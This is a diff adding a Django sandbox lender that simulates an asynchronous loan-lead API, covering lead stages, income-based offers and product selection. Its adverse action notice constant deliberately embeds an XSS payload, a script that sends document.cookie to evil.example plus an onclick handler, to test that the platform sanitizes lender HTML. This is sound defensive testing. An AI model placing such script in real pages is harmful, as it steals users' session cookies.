@@ -1,0 +1,198 @@
+"""The sandbox lender of the asynchronous lead style (seed 002), at /sandbox/async/<lender code>/.
+
+    POST oauth2/token             client credentials (the Lender's client_id / client_secret)
+    POST personal/v1/leads        Bearer -> 201 {uuid, partnerLeadId, status: "created"}
+                                  (a repeated partnerLeadId -> 200 with the lead's current state)
+    GET  personal/v1/leads/<uuid> Bearer -> the lead's current state
+    GET  go/<uuid>/<productId>    a product's lenderOfferUrl: marks it selected, redirects to the portal
+
+The lead moves with time (the `pending_seconds` knob, P): created, in_progress after 0.2 P,
+finding_products after 0.5 P, and its final status at P. With `callback_delay_seconds` set, the
+final state is POSTed to the platform's callback URL that long after P.
+
+Final status by monthly income (income.annual / 12), as the embedded sandbox decides:
+below 1,200,000 (or a borrower under 18) → no_offers, with an adverse action notice in HTML
+(which carries a script and an onclick on purpose: the platform must sanitize it); ending in 777
+→ timed_out (the lender's own search gave up); otherwise offers_found with products grouped by
+amount range: requested-amount when the consumer can afford what they asked, one
+lower-than-requested-amount per term when they cannot, and one higher-than-requested-amount
+when they could borrow a quarter more. No personal data is stored: only the sandbox's answers.
+"""
+
+from __future__ import annotations
+
+import re
+import secrets
+import uuid
+from datetime import date, timedelta
+from decimal import ROUND_DOWN, Decimal
+from typing import Any
+
+from django.db import IntegrityError, transaction
+from django.utils import timezone
+
+from apps.lenders.models import Lender
+from apps.products.models import Product
+from apps.sandbox import services
+from apps.sandbox.models import SandboxApplication
+
+ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
+STAGES = ((0.2, "created"), (0.5, "in_progress"), (1.0, "finding_products"))
+HIGHER_FACTOR = Decimal("1.25")
+ADVERSE_ACTION_NOTICE = (
+    "<h3>Notice of Action Taken</h3>"
+    "<p>We could not find a loan offer for you at this time. Principal reasons: <b>{reason}</b>.</p>"
+    '<p onclick="steal()">You may request a copy of the information used. <a href="https://lender.example/aan">Learn more</a></p>'
+    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+)
+
+
+def _errors(*pairs: tuple[str, str]) -> services.SandboxAnswer:
+    return services.SandboxAnswer(400, {"errors": [{"field": field, "message": message} for field, message in pairs]})
+
+
+def _validate(payload: Any, product: Product | None) -> list[tuple[str, str]]:
+    if not isinstance(payload, dict):
+        return [("body", "Must be a JSON object.")]
+    errors: list[tuple[str, str]] = []
+    partner_id = payload.get("partnerLeadId")
+    if not (isinstance(partner_id, str) and 1 <= len(partner_id) <= 255):
+        errors.append(("partnerLeadId", "Required: 1 to 255 characters."))
+    amount = (payload.get("loan") or {}).get("amount") if isinstance(payload.get("loan"), dict) else None
+    if product is None:
+        errors.append(("loan", "This lender has no active product."))
+    elif isinstance(amount, bool) or not isinstance(amount, (int, float)) or not (
+        product.min_amount <= Decimal(str(amount)) <= product.max_amount
+    ):
+        errors.append(("loan.amount", f"Required: between {product.min_amount:f} and {product.max_amount:f}."))
+    borrower = payload.get("borrower") if isinstance(payload.get("borrower"), dict) else {}
+    for name in ("firstName", "lastName", "email"):
+        if not (isinstance(borrower.get(name), str) and borrower[name].strip()):
+            errors.append((f"borrower.{name}", "Required."))
+    if not (isinstance(borrower.get("birthDate"), str) and ISO_DATE.match(borrower["birthDate"])):
+        errors.append(("borrower.birthDate", "Required: YYYY-MM-DD."))
+    region = (borrower.get("address") or {}).get("region") if isinstance(borrower.get("address"), dict) else None
+    if not (isinstance(region, str) and region.startswith("CO-")):
+        errors.append(("borrower.address.region", "Required: an ISO 3166-2:CO code such as CO-DC."))
+    income = (borrower.get("income") or {}).get("annual") if isinstance(borrower.get("income"), dict) else None
+    if isinstance(income, bool) or not isinstance(income, int) or income <= 0:
+        errors.append(("borrower.income.annual", "Required: a whole positive amount."))
+    return errors
+
+
+def _age(birth: str) -> int:
+    born, today = date.fromisoformat(birth), date.today()
+    return today.year - born.year - ((today.month, today.day) < (born.month, born.day))
+
+
+def _products(product: Product, income: int, requested: Decimal, go_url: str) -> dict[str, list[dict]]:
+    rate = services.offer_rate(product, income)
+    capacity = Decimal(income) * services.PAYMENT_SHARE
+    terms = sorted({product.min_term_months, (product.min_term_months + product.max_term_months) // 2, product.max_term_months})
+    groups: dict[str, list[dict]] = {"requested-amount": [], "higher-than-requested-amount": [], "lower-than-requested-amount": []}
+    for term in terms:
+        affordable = (services.annuity_present_value(capacity, rate, term) / services.AMOUNT_STEP).to_integral_value(
+            ROUND_DOWN) * services.AMOUNT_STEP
+        affordable = min(affordable, product.max_amount)
+        if affordable >= requested:
+            groups["requested-amount"].append(_product_body(product, requested, rate, term, go_url))
+            higher = (requested * HIGHER_FACTOR / services.AMOUNT_STEP).to_integral_value(ROUND_DOWN) * services.AMOUNT_STEP
+            if affordable >= higher and term == terms[-1]:
+                groups["higher-than-requested-amount"].append(_product_body(product, higher, rate, term, go_url))
+        elif affordable >= product.min_amount:
+            groups["lower-than-requested-amount"].append(_product_body(product, affordable, rate, term, go_url))
+    return groups
+
+
+def _product_body(product: Product, amount: Decimal, rate: Decimal, term: int, go_url: str) -> dict[str, Any]:
+    product_id = f"PRD-{int(amount)}-{term}"
+    payment = services.annuity_payment(amount, rate, term)
+    return {
+        "productId": product_id, "lenderName": product.lender.name, "amount": int(amount), "termMonths": term,
+        "interestRate": float(rate), "apr": float((rate + Decimal("0.015")).quantize(Decimal("0.0001"))),
+        "monthlyPayment": float(payment), "totalRepayment": float(payment * term),
+        "lenderOfferUrl": f"{go_url}/{product_id}",
+    }
+
+
+def sandbox_lead_create(*, lender: Lender, payload: Any, go_base_url: str) -> services.SandboxAnswer:
+    """POST personal/v1/leads: 201 with a new uuid, or the current state of a repeated partnerLeadId."""
+    product = Product.objects.filter(lender=lender, is_active=True).order_by("id").first()
+    errors = _validate(payload, product)
+    if errors:
+        return _errors(*errors)
+    existing = SandboxApplication.objects.filter(lender=lender, tracking_id=payload["partnerLeadId"]).first()
+    if existing is not None:
+        return services.SandboxAnswer(200, lead_state(existing))
+    lead_uuid = str(uuid.uuid4())
+    knobs = services.sandbox_settings_for(lender)
+    final = _final_state(product, payload, lead_uuid, go_base_url=f"{go_base_url}/{lead_uuid}")
+    created = {"uuid": lead_uuid, "partnerLeadId": payload["partnerLeadId"], "status": "created"}
+    try:
+        with transaction.atomic():
+            application = SandboxApplication.objects.create(
+                lender=lender, tracking_id=payload["partnerLeadId"], application_ref=lead_uuid, product_id=product.product_id,
+                decision="pending", decision_body=created, resolution_body=final,
+                resolves_at=timezone.now() + timedelta(seconds=knobs.pending_seconds),
+            )
+    except IntegrityError:
+        application = SandboxApplication.objects.get(lender=lender, tracking_id=payload["partnerLeadId"])
+        return services.SandboxAnswer(200, lead_state(application))
+    services.sandbox_callback_schedule(lender=lender, knobs=knobs, body=final, after_seconds=knobs.pending_seconds)
+    return services.SandboxAnswer(201, created)
+
+
+def _final_state(product: Product, payload: dict, lead_uuid: str, *, go_base_url: str) -> dict[str, Any]:
+    borrower = payload["borrower"]
+    income = borrower["income"]["annual"] // 12
+    base = {"uuid": lead_uuid, "partnerLeadId": payload["partnerLeadId"]}
+    if str(income).endswith(services.PENDING_SUFFIX):
+        return {**base, "status": "timed_out"}
+    if income < services.REJECT_BELOW_INCOME or _age(borrower["birthDate"]) < 18:
+        reason = "age" if _age(borrower["birthDate"]) < 18 else "insufficient income"
+        return {**base, "status": "no_offers", "adverseActionNotice": ADVERSE_ACTION_NOTICE.format(reason=reason)}
+    groups = _products(product, income, Decimal(str(payload["loan"]["amount"])), go_base_url)
+    if not any(groups.values()):
+        return {**base, "status": "no_offers",
+                "adverseActionNotice": ADVERSE_ACTION_NOTICE.format(reason="insufficient payment capacity")}
+    return {**base, "status": "offers_found", "products": groups}
+
+
+def lead_state(application: SandboxApplication) -> dict[str, Any]:
+    """The lead as the lender would show it now: its stage by elapsed time, then its final state."""
+    final = dict(application.resolution_body or {})
+    if application.selected_product_id:
+        return {**final, "status": "product_selected", "selectedProductId": application.selected_product_id}
+    if application.resolves_at is None or timezone.now() >= application.resolves_at:
+        return final
+    total = (application.resolves_at - application.created_at).total_seconds() or 1.0
+    elapsed = (timezone.now() - application.created_at).total_seconds() / total
+    status = next(name for limit, name in STAGES if elapsed < limit)
+    return {"uuid": final.get("uuid"), "partnerLeadId": final.get("partnerLeadId"), "status": status}
+
+
+def sandbox_lead_get(*, lender: Lender, lead_uuid: str) -> services.SandboxAnswer:
+    application = SandboxApplication.objects.filter(lender=lender, application_ref=lead_uuid).first()
+    if application is None:
+        return services.SandboxAnswer(404, {"errors": [{"field": "uuid", "message": "No such lead."}]})
+    return services.SandboxAnswer(200, lead_state(application))
+
+
+def sandbox_product_follow(*, lender: Lender, lead_uuid: str, product_id: str) -> str | None:
+    """A consumer followed a product's lenderOfferUrl: the lead becomes product_selected. Returns
+    the application reference for the portal, or None for an unknown lead or product."""
+    application = SandboxApplication.objects.filter(lender=lender, application_ref=lead_uuid).first()
+    if application is None:
+        return None
+    products = [item for group in (application.resolution_body or {}).get("products", {}).values() for item in group]
+    if product_id not in {item["productId"] for item in products}:
+        return None
+    SandboxApplication.objects.filter(pk=application.pk, selected_product_id="").update(
+        selected_product_id=product_id, updated_at=timezone.now()
+    )
+    return application.application_ref
+
+
+def new_client_credentials() -> dict[str, str]:
+    """Credentials for a new sandbox lender of this style (demo data, tests)."""
+    return {"client_id": f"sbx-client-{secrets.token_hex(4)}", "client_secret": secrets.token_urlsafe(24)}
